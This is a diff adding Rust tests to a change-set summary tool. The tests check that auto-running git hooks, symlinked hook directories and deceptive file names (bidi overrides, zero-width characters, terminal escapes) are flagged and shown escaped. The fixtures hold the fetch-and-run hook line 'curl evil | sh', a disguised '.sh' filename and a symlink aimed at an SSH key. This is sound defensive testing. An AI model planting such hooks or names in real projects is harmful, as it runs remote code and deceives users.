@@ -298,3 +298,94 @@ fn thousands_of_new_refs_are_listed_briefly() {
     assert!(out.contains("git: … and 1,980 more ref changes"), "{out}");
     assert_eq!(out.lines().filter(|l| l.contains("created at")).count(), 20, "{out}");
 }
+
+#[test]
+fn fifty_decoys_do_not_push_a_real_hook_out_of_the_list() {
+    let f = fx();
+    let mut set = Set::new(&f.ws);
+    for i in 0..50 {
+        set = set.dir(&format!("d{i:02}"), 0o755).file(&format!("d{i:02}/.envrc"), b"echo hi\n", 0o644);
+    }
+    set.dir(".git/hooks", 0o755).file(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", 0o755).stage(&f.store);
+    let out = text(&summary(&f), Some(40));
+    let attention = &out[out.find("runs code by itself").expect(&out)..];
+    assert_eq!(attention.lines().filter(|l| l.starts_with("  ! ")).count(), 51, "{out}");
+    assert!(attention.contains(".git/hooks/pre-commit"), "{out}");
+    assert!(!out.contains("more"), "nothing flagged is cut: {out}");
+}
+
+#[test]
+fn a_hooks_symlink_shows_each_hook_as_the_hook_it_becomes() {
+    let f = fx();
+    write(&f.ws.join(".git/HEAD"), b"ref: refs/heads/main\n");
+    write(&f.ws.join(".git/hooks/pre-commit.sample"), b"#!/bin/sh\n");
+    Set::new(&f.ws)
+        .symlink(".git/hooks", "../tools/githooks")
+        .dir("tools", 0o755)
+        .dir("tools/githooks", 0o755)
+        .file("tools/githooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
+        .file(".git/info/exclude", b"secret/\n", 0o644)
+        .file(".git/objects/ab/cdef", b"x", 0o444)
+        .stage(&f.store);
+    let s = summary(&f);
+    let out = text(&s, Some(40));
+    let attention = &out[out.find("runs code by itself").expect(&out)..];
+    assert!(
+        attention.lines().any(|l| l.contains(".git/hooks") && l.contains("symlink inside a git directory")),
+        "{out}"
+    );
+    assert!(
+        attention
+            .lines()
+            .any(|l| l.contains("tools/githooks/post-checkout") && l.contains("as .git/hooks/post-checkout")),
+        "{out}"
+    );
+    assert!(attention.lines().any(|l| l.contains(".git/info/exclude") && l.contains("git internals")), "{out}");
+    let git = s.groups.iter().find(|g| matches!(g.key, GroupKey::Git(_))).expect("the objects stay a git group");
+    assert_eq!(s.group_paths(git), [p(".git/objects/ab/cdef")]);
+}
+
+#[test]
+fn names_and_symlink_targets_cannot_hide_or_reorder_text() {
+    let f = fx();
+    Set::new(&f.ws)
+        .file("invoice\u{202E}gpj.sh", b"#!/bin/sh\n", 0o755)
+        .file(".env\u{200B}rc", b"x\n", 0o644)
+        .file("a\u{1b}[2Kb", b"x\n", 0o644)
+        .file("c\u{9b}31md", b"x\n", 0o644)
+        .symlink(".envrc", "safe\u{2066}/../../../home/u/.ssh/id\u{2069}")
+        .stage(&f.store);
+    let out = text(&summary(&f), None);
+    for raw in ['\u{202E}', '\u{200B}', '\u{1b}', '\u{9b}', '\u{2066}', '\u{2069}'] {
+        assert!(!out.contains(raw), "{raw:?} printed raw: {out:?}");
+    }
+    assert!(out.contains("invoice\\u{202e}gpj.sh") && out.contains(".env\\u{200b}rc"), "{out}");
+    assert!(out.contains("safe\\u{2066}/../../../home/u/.ssh/id\\u{2069}"), "{out}");
+}
+
+/// Classification of a change set 1,500 directories deep (the guest chooses
+/// the depth): each directory is judged once, from its parent's verdict.
+/// Prints the time; run with `--ignored --nocapture` for the number.
+#[test]
+#[ignore = "a measurement: prints the time of a deep change set"]
+fn deep_change_sets_classify_in_linear_time() {
+    let f = fx();
+    write(&f.ws.join(".gitignore"), b"*.tmp\n");
+    let mut set = Set::new(&f.ws);
+    let mut dir = String::new();
+    let depth: usize = std::env::var("DEEP").ok().and_then(|d| d.parse().ok()).unwrap_or(1_500);
+    for level in 0..depth {
+        dir = if dir.is_empty() { "a".to_string() } else { format!("{dir}/a") };
+        set = set.dir(&dir, 0o755);
+        if level % 10 == 0 {
+            for i in 0..10 {
+                set = set.file(&format!("{dir}/f{i}"), b"x\n", 0o644);
+            }
+        }
+    }
+    set.stage(&f.store);
+    let started = Instant::now();
+    let options = SummaryOptions { count_lines: false, ..options() };
+    let s = Summary::build(&f.store, &f.ws, &options).unwrap();
+    eprintln!("summary of {} entries up to 1,500 deep: {:?}", s.items.len(), started.elapsed());
+}
